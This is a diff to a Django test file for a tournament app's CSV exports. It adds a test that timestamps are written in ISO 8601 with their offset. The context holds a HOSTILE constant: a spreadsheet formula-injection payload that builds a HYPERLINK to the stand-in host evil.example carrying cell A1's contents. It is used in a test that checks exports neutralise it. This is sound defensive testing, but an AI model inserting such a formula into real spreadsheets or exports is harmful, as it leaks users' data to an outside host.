@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 
 import pytest
@@ -10,7 +11,7 @@ from django.core.management import call_command
 from rest_framework.test import APIClient
 
 from tests.tournaments.helpers import make_round
-from tournaments.csv_cells import spreadsheet_safe
+from tournaments.csv_cells import spreadsheet_safe, write_rows
 from tournaments.services.results import ReportedResult, match_set_result
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -54,3 +55,10 @@ def test_every_export_path_neutralises_a_hostile_name(hostile_event, judge, clie
         cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
         assert "'" + HOSTILE in cells, (path, body)
         assert HOSTILE not in cells, path
+
+
+def test_times_are_written_in_iso_8601_with_their_offset():
+    out = io.StringIO()
+    when = dt.datetime(2024, 5, 4, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
+    write_rows([["when"], [when]], out)
+    assert out.getvalue() == "when\n2024-05-04T09:30:00+02:00\n"
